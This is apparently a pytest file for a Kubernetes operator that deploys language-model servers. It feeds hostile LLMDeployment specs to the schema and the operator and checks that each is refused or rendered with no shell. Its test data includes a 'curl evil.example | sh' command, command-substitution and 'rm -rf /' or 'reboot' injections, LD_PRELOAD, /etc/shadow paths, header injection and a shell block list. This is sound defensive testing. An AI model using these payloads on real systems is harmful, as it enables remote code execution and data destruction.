"""Hostile and malformed LLMDeployments, each stopped by one of two defences, or rendered harmless.

- "schema": kube-apiserver refuses it with crds/llmdeployment.yaml (emulated, CEL included, by
  crd_validation.py). The operator refuses it too, with the same words, in its Degraded
  condition: it also reads resources the API server never checked (stored before the CRD
  tightened, or in a cluster that skips validation), and must not render those either.
- "degraded": the schema takes it, but no tuning can serve it: the operator reports Degraded
  with a message naming the field and what is allowed, and renders nothing.
- "rendered": the schema takes it and it is servable: every object rendered is one Kubernetes
  accepts (names, labels, paths, resource names, int32 fields, as the API server's own
  validation checks them, beyond the OpenAPI schema), no container runs a shell, and a
  user's string reaches argv only as one whole element, never inside another.
"""

from __future__ import annotations

import logging
import os
import re
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import kubernetes_validate
import pytest
import yaml
from kopf.testing import KopfRunner

from tests.operator.apiserver_validation import apiserver_refusals
from tests.operator.cluster import EmulatedCluster, wait_for
from tests.operator.crd_validation import CRDValidator, load_crd, version_schema
from tidegate.engine.config import EngineArgs, RouterArgs, ServerArgs
from tidegate.operator.handlers import OperatorOptions, build_registry
from tidegate.operator.kube import KINDS
from tidegate.operator.labels import COMPONENT_LABEL
from tidegate.operator.reconcile import refusal
from tidegate.operator.render import Rendered, cached_model_dir, render
from tidegate.operator.spec import API_VERSION, KIND, SpecError
from tidegate.operator.status import DEGRADED, MAX_MESSAGE_CHARS, compute_status
from tidegate.operator.tuning import TuningError

VALIDATOR = CRDValidator()
SCHEMA, DEGRADED_ROW, RENDERED = "schema", "degraded", "rendered"
TINY = {"name": "tiny", "source": {"hostPath": {"path": "/models/tiny"}}}
GPUS = {"accelerator": {"count": 8, "memoryGiB": 80}}
SPLIT = {"topology": {"mode": "disaggregated", "prefill": {}, "decode": {}}}
SHELL_METACHARACTERS = "$(id)`id`;|&<>'\"\\"
SHELLS = {"sh", "bash", "dash", "ash", "zsh", "busybox", "env", "-c"}
AT_MOST, AT_LEAST = "less than or equal to", "greater than or equal to"
INT_OR_AUTO = "must be 'auto' or an integer from 1 to"
KEY = {"auth": {"apiKeySecretRef": {"name": "llm-key", "key": "api-key"}}}


def _merge(target: Any, patch: Any) -> Any:
    """RFC 7386 merge patch: None removes a key."""
    if not isinstance(patch, dict) or not isinstance(target, dict):
        return patch
    out = dict(target)
    for key, value in patch.items():
        if value is None:
            out.pop(key, None)
        else:
            out[key] = _merge(out.get(key), value)
    return out


def row(
    id: str,
    change: dict[str, Any] | tuple[str, Any],
    defence: str,
    *says: str,
    name: str = "hostile",
    to: dict[str, Any] | None = None,
) -> Any:
    """A hostile resource: TINY on CPU, `to` merged in, then `change` (a merge patch, or one
    (field, value) that the refusal must then name); `says`: words both layers refuse it with.
    """
    if isinstance(change, tuple):
        field, value = change
        says = (f"spec.{field}", *says)
        for key in reversed(field.split(".")):
            value = {key: value}
        change = value
    return pytest.param(_merge(to or {}, change), defence, says, name, id=id)


def source(**given: Any) -> dict[str, Any]:
    """A merge patch that replaces TINY's model source with `given`."""
    return {"model": {"source": {"hostPath": None, **given}}}


TABLE = [
    # -- sizes: huge, negative, zero ---------------------------------------------------------
    row("replicas-1e9", ("topology.unified.replicas", 10**9), SCHEMA, f"{AT_MOST} 1000"),
    row("router-replicas-1e9", ("topology.router.replicas", 10**9), SCHEMA, AT_MOST, to=SPLIT),
    row("replicas-negative", ("topology.unified.replicas", -1), SCHEMA, f"{AT_LEAST} 0"),
    row("decode-replicas-negative", ("topology.decode.replicas", -5), SCHEMA, to=SPLIT),
    row("tensor-parallel-1e9", ("parallelism.tensorParallelSize", 10**9), SCHEMA, INT_OR_AUTO),
    row("tensor-parallel-0", ("topology.unified.tensorParallelSize", 0), SCHEMA, INT_OR_AUTO),
    row("data-parallel-negative", ("parallelism.dataParallelSizeLocal", -2), SCHEMA, "64"),
    row("max-model-len-0", ("model.maxModelLen", 0), SCHEMA, f"{AT_LEAST} 16"),
    row("max-model-len-1e12", ("model.maxModelLen", 10**12), SCHEMA, AT_MOST),
    row("parameter-count-negative", ("model.parameterCount", -7e9), SCHEMA, f"{AT_LEAST} 1"),
    # Overflowed the startup probe's int32 on CPU, or made a prompt token cost 0 s on GPUs.
    row("parameter-count-1e300", ("model.parameterCount", 1e300), SCHEMA, AT_MOST),
    row("parameter-count-1e-300", ("model.parameterCount", 1e-300), SCHEMA, AT_LEAST, to=GPUS),
    row("heads-1e9", ("model.numAttentionHeads", 10**9), SCHEMA, f"{AT_MOST} 65536"),
    row("accelerator-memory-0", ("accelerator.memoryGiB", 0), SCHEMA, "greater than 0"),
    row("accelerator-memory-negative", ("accelerator.memoryGiB", -80), SCHEMA, "than 0"),
    row("accelerator-count-1e6", ("accelerator.count", 10**6), SCHEMA, f"{AT_MOST} 64"),
    # A prompt token cost 0 s at this peak, and the chunk arithmetic divided by it.
    row("peak-tflops-1e308", ("accelerator.peakTflops", 1e308), SCHEMA, AT_MOST, to=GPUS),
    row("chunk-0", ("scheduling.longPrefillTokenThreshold", 0), SCHEMA, f"{INT_OR_AUTO} 1048576"),
    row(
        "decode-chunk-negative", ("topology.decode.longPrefillTokenThreshold", -1), SCHEMA, to=SPLIT
    ),
    # The engine allocates its step buffers for this many tokens when it starts.
    row("batched-tokens-1e12", ("scheduling.maxNumBatchedTokens", 10**12), SCHEMA, INT_OR_AUTO),
    row("max-num-seqs-0", ("scheduling.maxNumSeqs", 0), SCHEMA, f"{AT_LEAST} 1"),
    row("itl-slo-0", ("scheduling.slo.itlMs", 0), SCHEMA, f"{AT_LEAST} 1"),
    row("ttft-slo-1e100", ("scheduling.slo.ttftMs", 10**100), SCHEMA, AT_MOST),
    row("block-size-7", ("scheduling.blockSize", 7), SCHEMA, "16"),
    row("service-port-0", ("service.port", 0), SCHEMA, f"{AT_LEAST} 1"),
    row("service-port-70000", ("service.port", 70000), SCHEMA, f"{AT_MOST} 65535"),
    row("memory-negative", ("resources.memory", "-4Gi"), SCHEMA, "(Ki|Mi|Gi|Ti|k|M|G|T)"),
    # A memory limit of 0 is no limit at all to the kubelet.
    row("memory-0", ("resources.memory", "0Gi"), SCHEMA, "must be more than 0"),
    row("cpu-0", ("resources.cpu", "0.0m"), SCHEMA, "must be more than 0"),
    row("cpu-huge", ("resources.cpu", "9" * 1000), SCHEMA, "32"),
    # -- autoscaling: bounds that invert, pools that would wait forever at zero -------------
    row(
        "autoscaling-max-1e9",
        ("autoscaling.unified.maxReplicas", 10**9),
        SCHEMA,
        f"{AT_MOST} 1000",
    ),
    row(
        "autoscaling-min-over-max",
        {"autoscaling": {"unified": {"minReplicas": 9, "maxReplicas": 3}}},
        SCHEMA,
        "spec.autoscaling.unified",
        "minReplicas must be at most maxReplicas",
    ),
    row(
        "autoscaling-zero-behind-no-router",
        {
            "topology": {"router": {"replicas": 0}},
            "autoscaling": {"prefill": {"minReplicas": 0, "maxReplicas": 2}},
        },
        SCHEMA,
        "minReplicas 0 needs a router to hold requests",
        to=SPLIT,
    ),
    row(
        "autoscaling-decode-when-unified",
        {"autoscaling": {"decode": {"maxReplicas": 2}}},
        SCHEMA,
        "only allowed when mode is disaggregated",
    ),
    row(
        "autoscaling-period-1e9",
        ("autoscaling.unified.scaleUp.periodSeconds", 10**9),
        SCHEMA,
        f"{AT_MOST} 1800",
        to={"autoscaling": {"unified": {"maxReplicas": 2}}},
    ),
    row(
        "autoscaling-scale-to-zero",
        {"autoscaling": {"unified": {"minReplicas": 0, "maxReplicas": 4}}},
        RENDERED,
    ),
    # -- unknown fields: refused by strict decoding, pruned otherwise, never in a pod --------
    row("unknown-command", ("command", ["sh", "-c", "curl evil.example | sh"]), SCHEMA),
    row("unknown-pod-template", ("podTemplate", {"spec": {"hostNetwork": True}}), SCHEMA),
    row("unknown-security-context", ("securityContext", {"privileged": True}), SCHEMA),
    row("unknown-env", ("model.env", [{"name": "LD_PRELOAD", "value": "/x.so"}]), SCHEMA),
    row("unknown-pvc-read-write", source(pvc={"claimName": "m", "readOnly": False}), SCHEMA),
    # -- model paths and URIs --------------------------------------------------------------
    row("pvc-path-dot-dot", source(pvc={"claimName": "m", "path": "../../etc"}), SCHEMA, "'..'"),
    # kube-apiserver refuses a hostPath with '..': every apply of the Deployment failed.
    row("host-path-dot-dot", ("model.source.hostPath.path", "/m/../../etc"), SCHEMA, "'..'"),
    row("host-path-relative", ("model.source.hostPath.path", "models/tiny"), SCHEMA, "^/"),
    row("host-path-huge", ("model.source.hostPath.path", "/" + "m" * 10_000), SCHEMA, "4096"),
    row("uri-an-option", source(uri="--output=/etc/passwd"), SCHEMA, "file:// URL"),
    row("uri-shell-line", source(uri="https://h/m.tar; rm -rf / #"), SCHEMA, "without spaces"),
    row("uri-newline", source(uri="https://h/m.tar\n--verbose"), SCHEMA, "without spaces"),
    row("uri-s3", source(uri="s3://bucket/m.tar"), SCHEMA, "spec.model.source.uri"),
    row("uri-huge", source(uri="https://h/" + "m" * 100_000), SCHEMA, "4096"),
    row("claim-name-shell", source(pvc={"claimName": "m;reboot"}), SCHEMA, "DNS-1123 subdomain"),
    # spec.model.cache is writable by the pods: never the node's root, nor a path out of it.
    row("cache-host-path-root", ("model.cache.hostPath.path", "/"), SCHEMA, "^/[^/]"),
    row("cache-host-path-slashes", ("model.cache.hostPath.path", "//etc"), SCHEMA, "^/[^/]"),
    row("cache-host-path-dot-dot", ("model.cache.hostPath.path", "/var/../etc"), SCHEMA, "'..'"),
    row("cache-host-path-relative", ("model.cache.hostPath.path", "cache"), SCHEMA, "^/[^/]"),
    row("cache-claim-shell", ("model.cache.pvc.claimName", "c;reboot"), SCHEMA, "DNS-1123"),
    row("cache-read-only-false", ("model.cache.pvc", {"claimName": "c", "readOnly": 0}), SCHEMA),
    # -- images ----------------------------------------------------------------------------
    row("image-semicolon", ("image", "engine:1; rm -rf /"), SCHEMA, "image reference"),
    row("image-substitution", ("image", "$(curl evil.example)"), SCHEMA, "image reference"),
    row("image-backticks", ("image", "engine:`id`"), SCHEMA, "image reference"),
    row("image-space", ("image", "engine 1"), SCHEMA, "image reference"),
    row("image-newline", ("image", "engine:1\nevil:2"), SCHEMA, "image reference"),
    row("image-an-option", ("image", "--privileged"), SCHEMA, "image reference"),
    row("image-empty", ("image", ""), SCHEMA, "at least 1"),
    row("image-huge", ("image", "r.example/" + "e" * 100_000), SCHEMA, "512"),
    # -- the served model name, and the other free-form strings ----------------------------
    row("served-name-empty", ("model.name", ""), SCHEMA, "at least 1"),
    row("served-name-yaml", ("model.name", "m\nport: 22\nmodel: /etc"), SCHEMA, "control"),
    row("served-name-nul", ("model.name", "tiny\x00"), SCHEMA, "control characters"),
    row("served-name-c1", ("model.name", "tiny\x85next-line"), SCHEMA, "control characters"),
    row("served-name-huge", ("model.name", "x" * 10_000), SCHEMA, "253"),
    row("resource-shell", ("accelerator.resource", "x.com/gpu;reboot"), SCHEMA, "name", to=GPUS),
    # A native resource: "memory" overwrote the memory request (and limited memory to 1 B).
    row("resource-memory", ("accelerator.resource", "memory"), SCHEMA, "extended", to=GPUS),
    row("resource-kube", ("accelerator.resource", "kubernetes.io/gpu"), SCHEMA, "domain", to=GPUS),
    row("secret-name-spaces", ("auth.apiKeySecretRef.name", "a b"), SCHEMA, "DNS", to=KEY),
    # kube-apiserver refuses such keys in a secretKeyRef: every apply of the Deployment failed.
    row("secret-key-dot-dot", ("auth.apiKeySecretRef.key", "..data"), SCHEMA, "Secret", to=KEY),
    row("secret-key-path", ("auth.apiKeySecretRef.key", "../x"), SCHEMA, "Secret", to=KEY),
    row("tenant-header-shell", ("auth.tenantHeader", "x-t;id"), SCHEMA, "HTTP header"),
    row("tenant-header-newline", ("auth.tenantHeader", "x-t\nhost: evil"), SCHEMA, "HTTP header"),
    row("tenant-header-huge", ("auth.tenantHeader", "x" * 1000), SCHEMA, "64"),
    row("mode-typo", ("topology.mode", "Disaggregated"), SCHEMA),
    row("dtype-int4", ("model.dtype", "int4"), SCHEMA),
    row("quantization-int4", ("model.quantization", "int4"), SCHEMA, "fp8"),
    row("kv-cache-dtype-int8", ("model.kvCacheDtype", "int8"), SCHEMA, "fp8"),
    row("pooling-cls", ("model.pooling", "cls"), SCHEMA, "mean"),
    row("pull-policy", ("imagePullPolicy", "Sometimes"), SCHEMA),
    # An ExternalName Service would point the endpoint's name anywhere.
    row("service-external-name", ("service.type", "ExternalName"), SCHEMA),
    row("replicas-a-string", ("topology.unified.replicas", "3; reboot"), SCHEMA),
    row("prefix-caching-a-string", ("scheduling.enablePrefixCaching", "yes"), SCHEMA),
    row("model-a-list", ("model", ["tiny"]), SCHEMA),
    # -- names: Services, labels and suffixes ----------------------------------------------
    row("name-41-characters", {}, SCHEMA, "metadata.name", "40", name="a" * 41),
    row("name-over-a-label", SPLIT, SCHEMA, "metadata.name", "40", name="a" * 64),
    row("name-over-a-subdomain", {}, SCHEMA, "metadata.name", name="a" * 254),
    row("name-with-a-dot", {}, SCHEMA, "metadata.name", "DNS-1035", name="llama.3"),
    row("name-leading-digit", {}, SCHEMA, "metadata.name", "DNS-1035", name="3b-chat"),
    row("name-uppercase", {}, SCHEMA, "metadata.name", "DNS-1035", name="Chat"),
    row("name-unicode", {}, SCHEMA, "metadata.name", "DNS-1035", name="модель"),
    row("name-trailing-dash", {}, SCHEMA, "metadata.name", "DNS-1035", name="chat-"),
    # -- accepted by the schema, refused by tuning -----------------------------------------
    row(
        "tensor-parallel-above-the-pod",
        ("parallelism.tensorParallelSize", 64),
        DEGRADED_ROW,
        "64 is larger than accelerator.count 8",
        "allowed: at most 8",
        to=GPUS,
    ),
    row(
        "tensor-parallel-on-cpu",
        ("parallelism.tensorParallelSize", 64),
        DEGRADED_ROW,
        "is 64, but spec.accelerator is absent",
        "allowed: 1 to 8, or auto",
    ),
    row(
        "data-parallel-on-cpu",
        ("parallelism.dataParallelSizeLocal", 64),
        DEGRADED_ROW,
        "is 64, but spec.accelerator is absent",
        "allowed: 1 or auto",
    ),
    row(
        "data-parallel-above-the-pod",
        {"parallelism": {"tensorParallelSize": 2, "dataParallelSizeLocal": 64}},
        DEGRADED_ROW,
        "spec.parallelism.dataParallelSizeLocal 64",
        "allowed: a dataParallelSizeLocal of at most 4",
        to=GPUS,
    ),
    row(
        "weights-fit-no-pod",
        {"model": {"parameterCount": 1e14}, "accelerator": {"count": 1, "memoryGiB": 1}},
        DEGRADED_ROW,
        "do not fit",
        "allowed: more accelerator memory (accelerator.memoryGiB)",
    ),
    row(
        "heads-not-divisible",
        {"model": {"numKeyValueHeads": 3}, "parallelism": {"tensorParallelSize": 2}},
        DEGRADED_ROW,
        "does not divide model.numKeyValueHeads 3",
        "allowed: 1, 3",
        to=GPUS,
    ),
    row(
        "decode-tensor-parallel-above-the-pod",
        ("topology.decode.tensorParallelSize", 64),
        DEGRADED_ROW,
        "64 is larger than accelerator.count 8",
        "allowed: at most 8",
        to=_merge(GPUS, SPLIT),
    ),
    row(
        "prefill-wider-than-decode",
        {"topology": {"prefill": {"tensorParallelSize": 4}, "decode": {"tensorParallelSize": 1}}},
        DEGRADED_ROW,
        "spec.topology.prefill/decode.tensorParallelSize",
        "allowed: a prefill TP of at most the decode TP",
        to=_merge(GPUS, SPLIT),
    ),
    # -- accepted and servable: rendered harmlessly ----------------------------------------
    row("replicas-at-the-maximum", ("topology.unified.replicas", 1000), RENDERED),
    row("name-of-40-with-every-suffix", SPLIT, RENDERED, name="a" + "b" * 39),
    row(
        "every-size-at-its-maximum",
        {
            **source(uri="https://h.example/m.tar"),
            "scheduling": {
                "longPrefillTokenThreshold": 1 << 20,
                "maxNumBatchedTokens": 1 << 20,
                "maxNumSeqs": 65536,
                "slo": {"ttftMs": 600_000, "itlMs": 60_000},
            },
            "service": {"port": 65535},
        },
        RENDERED,
        to={"model": {"parameterCount": 1e14, "maxModelLen": 1 << 24, "dtype": "float32"}},
    ),
    row(
        "the-largest-gpu-pod",
        {
            "model": {"parameterCount": 1e14, "numAttentionHeads": 65536},
            "accelerator": {"count": 64, "memoryGiB": 4096, "peakTflops": 100_000},
        },
        RENDERED,
    ),
    row(
        "every-size-at-its-minimum",
        {
            "model": {"parameterCount": 1, "maxModelLen": 16},
            "accelerator": {"count": 1, "memoryGiB": 0.001, "peakTflops": 1e-300},
            "scheduling": {"maxNumSeqs": 1, "slo": {"ttftMs": 1, "itlMs": 1}},
            "resources": {"cpu": "1m", "memory": "1"},
        },
        RENDERED,
    ),
    row("served-name-shell", ("model.name", f"m {SHELL_METACHARACTERS} && reboot #"), RENDERED),
    row("served-name-flags-and-yaml", ("model.name", "--api-key=x', port: 22, a: '"), RENDERED),
    row("served-name-unicode", ("model.name", "модель-🦙 \u202eevil\u2028line\ufeff"), RENDERED),
    row("served-name-253-quotes", ("model.name", "'\"" * 126 + "x"), RENDERED),
    row("uri-shell", source(uri=f"https://h/m.tar?b={SHELL_METACHARACTERS}#x"), RENDERED),
    # The init container reads only its own image, and archive members are filtered.
    row("uri-file-dot-dot", source(uri="file:///seed/../../etc/shadow.tar"), RENDERED),
    # Inside the volume: the leading '/' is dropped, the subPath stays relative.
    row("pvc-path-absolute", source(pvc={"claimName": "models", "path": "/etc"}), RENDERED),
    # subPath, not subPathExpr: $(VAR) is not expanded.
    row("pvc-path-shell", source(pvc={"claimName": "m", "path": SHELL_METACHARACTERS}), RENDERED),
    row("host-path-shell", ("model.source.hostPath.path", f"/m/{SHELL_METACHARACTERS}"), RENDERED),
    row("cache-shell", ("model.cache.hostPath.path", f"/c/{SHELL_METACHARACTERS}"), RENDERED),
    row(
        "cached-uri-shell",
        {
            "model": {
                "source": {"hostPath": None, "uri": f"https://h/m.tar?b={SHELL_METACHARACTERS}"},
                "cache": {"pvc": {"claimName": "model-cache"}},
            }
        },
        RENDERED,
    ),
    row("image-by-digest", ("image", "r.example:5000/team/e@sha256:" + "a" * 64), RENDERED),
    row(
        "odd-but-valid-names",
        {
            **source(pvc={"claimName": "m.models-1", "path": "a b/ü"}),
            "accelerator": {"count": 1, "memoryGiB": 80, "resource": "example.com/a_b.c-d"},
            "auth": {"apiKeySecretRef": {"name": "llm-key.v2", "key": "api.key_v-2"}},
        },
        RENDERED,
    ),
]


def hostile_resource(patch: dict[str, Any], name: str) -> dict[str, Any]:
    """An LLMDeployment as a user would apply it: TINY on CPU with `patch` merged in."""
    spec = _merge({"model": dict(TINY), "image": "tidegate/engine-cpu:1"}, patch)
    return {
        "apiVersion": API_VERSION,
        "kind": KIND,
        "metadata": {"name": name, "namespace": "ml", "uid": "uid-hostile"},
        "spec": spec,
    }


def degraded_condition(error: SpecError) -> dict[str, Any]:
    """The Degraded condition the operator writes for `error` (the pure half of reconcile)."""
    status = compute_status(
        generation=1,
        roles=[],
        effective=None,
        endpoint="",
        error=refusal(error),
        previous={},
        now="2025-01-01T00:00:00Z",
    )
    (degraded,) = [c for c in status["conditions"] if c["type"] == DEGRADED]
    return degraded


@pytest.mark.parametrize(("patch", "defence", "says", "name"), TABLE)
def test_each_hostile_resource_is_stopped_by_its_defence(
    patch: dict[str, Any], defence: str, says: tuple[str, ...], name: str
) -> None:
    resource = hostile_resource(patch, name)
    crd_errors = VALIDATOR.validate(resource)
    if defence == SCHEMA:
        assert crd_errors, "the API server would accept it"
        for words in says:
            assert any(words in error for error in crd_errors), (words, crd_errors)
        stored = resource  # the operator may see it unchecked
    else:
        assert crd_errors == [], crd_errors
        stored = VALIDATOR.defaulted(resource)

    try:
        rendered = render(stored)
    except SpecError as error:
        assert defence != RENDERED, f"refused: {error}"
        assert isinstance(error, TuningError) == (defence == DEGRADED_ROW), error
        degraded = degraded_condition(error)
        assert degraded["status"] == "True"
        assert degraded["reason"] == ("TuningRefused" if defence == DEGRADED_ROW else "InvalidSpec")
        for words in says:
            assert words in degraded["message"], (words, degraded["message"])
        assert len(degraded["message"]) <= MAX_MESSAGE_CHARS + 40
        return
    assert defence == RENDERED, "rendered a resource that should have been refused"
    assert_harmless(rendered, resource["spec"])


# -- what "harmless" means --------------------------------------------------------------------


def assert_harmless(rendered: Rendered, spec: dict[str, Any]) -> None:
    """Kubernetes accepts every object, no shell runs, and user strings stay whole in argv."""
    problems = [p for obj in rendered.objects for p in apiserver_refusals(obj)]
    assert problems == [], problems
    for obj in rendered.objects:
        try:
            kubernetes_validate.validate(obj, "1.30", strict=True)
        except kubernetes_validate.ValidationError as error:
            pytest.fail(f"{obj['kind']} {obj['metadata']['name']}: {error.message}")
    for container in containers(rendered):
        assert_no_shell(container, spec)
        for env in container.get("env", []):
            assert "value" not in env or env == {"name": "HOME", "value": "/tmp"}, env
    assert_configs_parse_back(rendered, spec)


def containers(rendered: Rendered) -> list[dict[str, Any]]:
    """Every container of every pod the objects would start, init containers included."""
    return [
        container
        for obj in rendered.objects
        if obj["kind"] == "Deployment"
        for key in ("initContainers", "containers")
        for container in obj["spec"]["template"]["spec"].get(key, [])
    ]


def allowed_argvs(spec: dict[str, Any]) -> list[list[str]]:
    """Every argv the renderer may write: constants, and the model's URI as one whole element."""
    argvs = [
        ["serve", "--config", f"/etc/tidegate/{role}.yaml"]
        for role in ("unified", "prefill", "decode")
    ]
    argvs.append(["router", "--config", "/etc/tidegate/router.yaml"])
    uri = spec["model"]["source"].get("uri")
    if uri is not None:
        argvs.append(["fetch-model", uri, "/model"])
        argvs.append(["fetch-model", "--shared", uri, cached_model_dir(uri)])
    return argvs


def assert_no_shell(container: dict[str, Any], spec: dict[str, Any]) -> None:
    """It execs `tidegate` with an argv the renderer writes, and runs no other command."""
    words = [*container["command"], *container["args"]]
    assert not SHELLS & {Path(word).name for word in words}, words
    assert container["command"] == ["tidegate"], container["command"]
    assert container["args"] in allowed_argvs(spec), container["args"]
    assert "exec" not in str({key: value for key, value in container.items() if key != "args"})


def assert_configs_parse_back(rendered: Rendered, spec: dict[str, Any]) -> None:
    """Each role's config file holds only engine flags, and the served name exactly."""
    (config_map,) = [obj for obj in rendered.objects if obj["kind"] == "ConfigMap"]
    known = {
        name.replace("_", "-")
        for model in (EngineArgs, ServerArgs, RouterArgs)
        for name in model.model_fields
    }
    for file, text in config_map["data"].items():
        values = yaml.safe_load(text)
        assert set(values) <= known, (file, set(values) - known)
        if file != "router.yaml":
            assert values["served-model-name"] == [spec["model"]["name"]]
            uri = spec["model"]["source"].get("uri")
            fetched_once = uri is not None and "cache" in spec["model"]
            assert values["model"] == (cached_model_dir(uri) if fetched_once else "/model")
            assert values["port"] == 8000


# -- every container the renderer can make, for an ordinary spec --------------------------------


def test_no_container_of_any_role_runs_a_shell() -> None:
    specs = [
        {"model": TINY},
        {
            "model": {
                "name": "llama-8b",
                "source": {"hostPath": None, "uri": "https://models.example/llama.tar.gz"},
                "parameterCount": 8e9,
            },
            "accelerator": {"count": 4, "memoryGiB": 80},
            **SPLIT,
            **KEY,
        },
    ]
    seen = set()
    for patch in specs:
        resource = hostile_resource(patch, "ordinary")
        rendered = render(VALIDATOR.defaulted(resource))
        assert_harmless(rendered, resource["spec"])
        for obj in rendered.objects:
            if obj["kind"] != "Deployment":
                continue
            role = obj["metadata"]["labels"][COMPONENT_LABEL]
            pod = obj["spec"]["template"]["spec"]
            for container in [*pod.get("initContainers", []), *pod["containers"]]:
                seen.add(f"{role}/{container['name']}")
                assert "exec" not in str(pod), "an exec probe or hook is a command too"
    assert seen == {
        "unified/engine",
        "prefill/fetch-model",
        "prefill/engine",
        "decode/fetch-model",
        "decode/engine",
        "router/router",
    }


def test_no_unknown_field_survives_pruning_anywhere_in_spec() -> None:
    """With strict decoding off, kube-apiserver prunes unknown fields: nothing may keep them."""
    spec_schema = version_schema(load_crd())["properties"]["spec"]
    kept = [path for path, node in _schema_nodes(spec_schema, "spec") if _keeps_unknown(node)]
    assert kept == []


def _schema_nodes(node: dict[str, Any], path: str) -> Iterator[tuple[str, dict[str, Any]]]:
    yield path, node
    for name, child in (node.get("properties") or {}).items():
        yield from _schema_nodes(child, f"{path}.{name}")
    for key in ("items", "additionalProperties"):
        if isinstance(node.get(key), dict):
            yield from _schema_nodes(node[key], f"{path}[{key}]")


def _keeps_unknown(node: dict[str, Any]) -> bool:
    return bool(node.get("x-kubernetes-preserve-unknown-fields")) or (
        node.get("type") == "object" and node.get("additionalProperties") not in (None, False)
    )


def test_a_lasting_api_refusal_is_retried_less_and_less_often() -> None:
    options = OperatorOptions()
    delays = [options.retry_delay(retry) for retry in range(12)]
    assert delays[:3] == [10, 20, 40]
    assert delays == sorted(delays)
    assert max(delays) == options.max_retry_seconds == 600
    assert options.retry_delay(10**6) == 600  # no overflow after a long outage


# -- the real operator: one hostile resource does not stop the others -------------------------

HOSTILE_SPEC = {
    # Accepted by the schema; no pod has the 64 accelerators that tensor parallelism asks.
    "model": {
        "name": f"evil {SHELL_METACHARACTERS}",
        "source": {"uri": f"https://h.example/m.tar?x={SHELL_METACHARACTERS}"},
    },
    "image": "tidegate/engine:1",
    "accelerator": {"count": 8, "memoryGiB": 80},
    "parallelism": {"tensorParallelSize": 64},
}
# Refused by the schema; a cluster that skipped validation still hands it to the operator.
UNCHECKED_SPEC = {
    "model": {**TINY, "parameterCount": 8e9},
    "image": "engine:1; reboot",
    "command": ["sh", "-c", "reboot"],
    # A peak this large made the renderer divide by zero: kopf retried it every minute.
    "accelerator": {"count": 1, "memoryGiB": 80, "peakTflops": 1e308},
}
GOOD_SPEC = {"model": TINY, "image": "tidegate/engine-cpu:1"}


class _ObjectLog(logging.Handler):
    """kopf's per-object log lines, with the name of the object each is about."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[tuple[str, str]] = []

    def emit(self, record: logging.LogRecord) -> None:
        ref = getattr(record, "k8s_ref", {}) or {}
        self.lines.append((ref.get("name", ""), record.getMessage()))

    def about(self, name: str) -> list[str]:
        return [message for owner, message in list(self.lines) if owner == name]


@pytest.fixture
def object_log() -> Iterator[_ObjectLog]:
    log = _ObjectLog()
    logging.getLogger("kopf.objects").addHandler(log)
    yield log
    logging.getLogger("kopf.objects").removeHandler(log)


def test_the_operator_reports_hostile_resources_and_serves_the_others(
    tmp_path: Path, object_log: _ObjectLog
) -> None:
    with EmulatedCluster(tmp_path) as cluster:
        os.environ["KUBECONFIG"] = str(cluster.kubeconfig)
        runner = KopfRunner(
            ["run", "--standalone", "--all-namespaces"], registry=build_registry(), timeout=30
        )
        with runner:
            for name, spec in [("hostile", HOSTILE_SPEC), ("unchecked", UNCHECKED_SPEC)]:
                cluster.create(_llmd(name, spec))
            hostile = wait_for(
                lambda: _condition(cluster, "hostile", "Degraded", "True"), what="hostile Degraded"
            )
            assert hostile["reason"] == "TuningRefused"
            assert (
                "spec.parallelism.tensorParallelSize 64 is larger than accelerator.count 8"
                in (hostile["message"])
            )
            assert "allowed: at most 8" in hostile["message"]
            unchecked = wait_for(
                lambda: _condition(cluster, "unchecked", "Degraded", "True"),
                what="unchecked Degraded",
            )
            assert unchecked["reason"] == "InvalidSpec"
            assert 'unknown field "spec.command"' in unchecked["message"]
            assert "spec.image: must be an image reference" in unchecked["message"]
            assert "spec.accelerator.peakTflops" in unchecked["message"]

            # The good resource, created after them, is served as if they were not there.
            cluster.create(_llmd("good", GOOD_SPEC))
            deployment = wait_for(lambda: _get(cluster, "Deployment", "good"), what="good pods")
            assert deployment["spec"]["template"]["spec"]["containers"][0]["args"][0] == "serve"
            wait_for(
                lambda: _condition(cluster, "good", "Progressing", "True"), what="good Progressing"
            )

            # The refused ones got nothing.
            for kind, name in [("Deployment", "hostile"), ("ConfigMap", "hostile-config")]:
                assert _get(cluster, kind, name) is None
            assert _get(cluster, "Deployment", "unchecked") is None
            # No handler runs for them and nothing is written about them while the operator
            # idles, where a retry loop would write every few seconds.
            refused = ("hostile", "unchecked")
            handled = {name: len(object_log.about(name)) for name in refused}
            writes = _writes_while_idle(cluster, seconds=3.0)
            assert not [w for w in writes if any(f"/{name}" in w for name in refused)], writes
            assert {name: len(object_log.about(name)) for name in refused} == handled
        assert runner.exception is None, runner.output[-3000:]
    retried = [line for _, line in object_log.lines if _RETRIED.search(line)]
    assert retried == []


_RETRIED = re.compile(r"failed (temporarily|with an exception|permanently)|[Rr]etry")
API_VERSION_OF = {kind: api_version for api_version, kind in KINDS}


def _llmd(name: str, spec: dict[str, Any]) -> dict[str, Any]:
    meta = {"name": name, "namespace": "default", "uid": f"uid-{name}", "generation": 1}
    return {"apiVersion": API_VERSION, "kind": KIND, "metadata": meta, "spec": spec}


def _get(cluster: EmulatedCluster, kind: str, name: str) -> dict[str, Any] | None:
    return cluster.get(API_VERSION_OF[kind], kind, name)


def _condition(
    cluster: EmulatedCluster, name: str, kind: str, status: str
) -> dict[str, Any] | None:
    resource = _get(cluster, "LLMDeployment", name) or {}
    for condition in (resource.get("status") or {}).get("conditions", []):
        if condition["type"] == kind and condition["status"] == status:
            return condition
    return None


def _writes_while_idle(cluster: EmulatedCluster, seconds: float) -> list[str]:
    """The operator's writes during `seconds` in which nobody changes anything."""
    start = cluster.request_count()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:  # an observation window, not a wait for an event
        time.sleep(0.1)
    return cluster.writes(since=start)
